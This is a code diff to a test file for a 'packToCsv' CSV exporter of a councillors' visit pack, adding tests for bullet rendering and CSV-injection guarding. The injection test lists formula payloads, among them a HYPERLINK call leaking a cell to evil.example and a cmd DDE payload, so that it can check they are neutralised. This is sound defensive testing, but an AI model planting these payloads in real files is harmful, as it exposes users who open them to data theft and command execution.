@@ -48,7 +48,9 @@ describe('packToCsv', () => {
   });
 
   it('has a row per recurring theme', () => {
-    expect(data.filter((r) => r.section === 'Recurring themes').map((r) => r.subsection)).toEqual(['Workloads and caseloads']);
+    expect(data.filter((r) => r.section === 'Recurring themes').map((r) => r.subsection)).toEqual([
+      'Workloads and caseloads'
+    ]);
   });
 
   it('keeps commas, quotes and line breaks inside a cell', () => {
@@ -66,12 +68,29 @@ describe('packToCsv', () => {
     expect(serviceResponse?.text).toBe(pack.serviceResponse);
   });
 
-  it('prefixes an apostrophe to text that a spreadsheet would run as a formula', () => {
-    // Holland's answers start "- ", so they are guarded too: the price of never running a formula.
+  it('keeps ordinary bullet text as written: a typed "- " list marker becomes a bullet, never "\'-"', () => {
     const holland = data.find(
       (r) => r.councillor === 'Sally Ann Holland' && r.subsection === 'Quality of practice: strengths'
     );
-    expect(holland?.text).toMatch(/^'- Dip sampling/);
+    expect(holland?.text).toMatch(/^\u2022 Dip sampling/);
+    expect(holland?.text).toContain('\n\u2022 Only two agency staff');
+    expect(data.some((r) => r.text.startsWith("'-"))).toBe(false);
+  });
+
+  it('guards every cell a spreadsheet would run as a formula (CSV injection)', () => {
+    const payloads = [
+      '=HYPERLINK("https://evil.example?"&A1)',
+      '+1+1',
+      "-2+3+cmd|' /C calc'!A0",
+      '@SUM(1,1)',
+      '\t=1+1',
+      '\r=1+1',
+      '-1'
+    ];
+    for (const p of payloads) expect({ p, cell: safeCell(p) }).toEqual({ p, cell: `'${p}` });
+    // A marker followed by a formula is a bullet holding text: it cannot run either.
+    expect(safeCell('- =1+1')).toBe('\u2022 =1+1');
+    expect(safeCell('Plain text - with a dash')).toBe('Plain text - with a dash');
   });
 
   it('infers team and day from the appendices when visits are not passed', () => {
